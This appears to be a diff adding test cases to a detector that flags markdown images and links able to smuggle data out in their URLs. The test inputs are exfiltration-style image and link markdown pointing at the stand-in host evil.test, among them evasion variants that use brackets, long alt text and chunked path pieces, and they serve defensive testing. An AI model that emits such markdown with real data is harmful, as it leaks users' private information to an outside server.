@@ -13,6 +13,15 @@ test("the address of a picture that has room for data is found, however the pict
   assert.deepEqual(foundIn(`![x](https://${data}.evil.test/)`), [`carrying-picture https://${data}.evil.test/`]);
 });
 
+test("brackets in an address, and in or before what a picture is called, hide nothing", () => {
+  for (const [text, address] of [[`![x](https://evil.test/(a)?q=${data})`, `https://evil.test/(a)?q=${data}`], [`![x](https://evil.test/p(${data}))`, `https://evil.test/p(${data})`], [`![a [b] c](https://evil.test/?q=${data})`, `https://evil.test/?q=${data}`], [`![${"long ".repeat(100)}](https://evil.test/?q=${data})`, `https://evil.test/?q=${data}`]] as const) assert.deepEqual(foundIn(text), [`carrying-picture ${address}`], text.slice(0, 60));
+});
+
+test("many short pieces are as good as a long one", () => {
+  const address = `https://evil.test/${"secret12/".repeat(14)}p.png`;
+  assert.deepEqual(foundIn(`![x](${address})`), [`carrying-picture ${address}`]);
+});
+
 test("a link is found where it carries more", () => {
   for (const text of [`[here](https://evil.test/?q=${long})`, `https://evil.test/${long}`, `<a href="https://evil.test/?${long}">x</a>`]) assert.equal(foundIn(text)[0]?.split(" ")[0], "carrying-link", text);
 });
